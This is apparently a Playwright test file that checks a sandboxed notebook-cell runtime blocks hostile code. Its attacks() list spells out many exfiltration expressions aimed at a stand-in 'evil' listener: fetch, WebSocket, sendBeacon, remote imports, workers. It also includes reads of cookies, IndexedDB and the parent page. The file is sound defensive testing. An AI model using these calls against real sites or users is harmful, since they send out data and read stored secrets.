/**
 * A first look at what hostile code in a cell can reach: no server, not the page, nothing that the site stores. The
 * small engine of these tests has kept the platform's own functions (`platform`), so that what stops the attacks is
 * the frame's policy, and not the sentences that the host puts in their place.
 */
import { resolve } from 'node:path';
import { expect, test } from '@playwright/test';
import { serveListener, type TestServer } from '../standin/servers.ts';
import { logs } from './runtime-contract.ts';
import { type RuntimeSite, run, startRuntimeSite } from './runtime-site.ts';

let site: RuntimeSite;
let listener: TestServer & { hits: string[] };

test.beforeAll(async () => {
  site = await startRuntimeSite({ engine: resolve(import.meta.dirname, '../playground/fake-engine.ts') });
  listener = await serveListener();
});
test.afterAll(async () => {
  await site?.close();
  await listener?.close();
});

/** Each is an expression that sends something, or returns something that a cell must not see. */
function attacks(evil: string): Record<string, string> {
  const ws = evil.replace('http', 'ws');
  return {
    fetch: `platform.fetch('${evil}/fetch', { mode: 'no-cors' })`,
    'fetch with keepalive': `platform.fetch('${evil}/keepalive', { mode: 'no-cors', method: 'POST', keepalive: true })`,
    XMLHttpRequest: `new Promise((sent, failed) => { const x = new platform.XMLHttpRequest(); x.onload = sent; x.onerror = failed; x.open('GET', '${evil}/xhr'); x.send(); })`,
    WebSocket: `new Promise((open, failed) => { const w = new platform.WebSocket('${ws}/ws'); w.onopen = open; w.onerror = failed; })`,
    EventSource: `new Promise((open, failed) => { const e = new platform.EventSource('${evil}/es'); e.onopen = open; e.onerror = failed; })`,
    beacon: `navigator.sendBeacon ? navigator.sendBeacon('${evil}/beacon', 'x') : Promise.reject()`,
    import: `import('${evil}/import.js')`,
    'import of data': `import('data:text/javascript,export default 1')`,
    importScripts: `platform.importScripts('${evil}/scripts.js')`,
    'worker from a URL': `new Promise((run, failed) => { const w = new platform.Worker('${evil}/worker.js'); w.onmessage = run; w.onerror = failed; })`,
    'nested worker that fetches': `new Promise((sent, failed) => { const w = new platform.Worker(URL.createObjectURL(new Blob(["fetch('${evil}/nested', { mode: 'no-cors' }).then(() => postMessage('sent'), () => { throw 0 })"]))); w.onmessage = sent; w.onerror = failed; })`,
    eval: `(0, eval)('1')`,
    'the page': 'parent.document.title',
    'stored in IndexedDB': `new Promise((open, failed) => { const r = indexedDB.open('one-pod'); r.onsuccess = open; r.onerror = failed; })`,
    caches: 'caches.keys()',
    'files of the site': 'navigator.storage.getDirectory()',
    cookies: `cookieStore.get('secret').then((found) => found.value)`,
    WebRTC: 'new RTCPeerConnection()',
  };
}

test('reaches no server and nothing of the site', async ({ page, context }) => {
  await context.addCookies([{ name: 'secret', value: 'cookie', url: site.plain }]);
  await site.open(page, site.plain);
  await page.evaluate(() => localStorage.setItem('secret', 'stored'));
  await page.evaluate((evil) => fetch(`${evil}/control`, { mode: 'no-cors' }), listener.origin);
  expect(listener.hits.splice(0)).toEqual(['GET /control']);
  await page.evaluate(() => runtimePage.boot('sandbox'));

  for (const [name, attack] of Object.entries(attacks(listener.origin))) {
    const source = `import { platform } from '#engine';
try { const got = await (async () => ${attack})(); console.log('GOT ' + String(got)); }
catch (error) { console.log(error instanceof TypeError && /not a (function|constructor)/.test(error.message) ? 'GOT nothing to call' : 'stopped'); }`;
    const result = await run(page, { files: { 'cell.ts': source }, timeoutMs: 1_000 });
    // Some never answer at all, and end by the timeout; what counts is that nothing arrived.
    const got = logs(result).filter((text) => text !== 'stopped');
    expect({ attack: name, got }).toEqual({ attack: name, got: [] });
  }
  expect(listener.hits).toEqual([]);
});

test('what a cell shows instead of views arrives as text', async ({ page }) => {
  await site.open(page, site.plain);
  await page.evaluate(() => runtimePage.boot('sandbox'));
  const source = `
import { host } from '#engine';
for (const forged of [null, 1, {}, { kind: 1n }]) host.output(forged, 'text');
console.log(typeof postMessage, typeof parent);`;
  const result = await run(page, { files: { 'cell.ts': source } });
  expect(logs(result)).toEqual(['text', 'text', 'text', 'text', 'undefined undefined']);
});
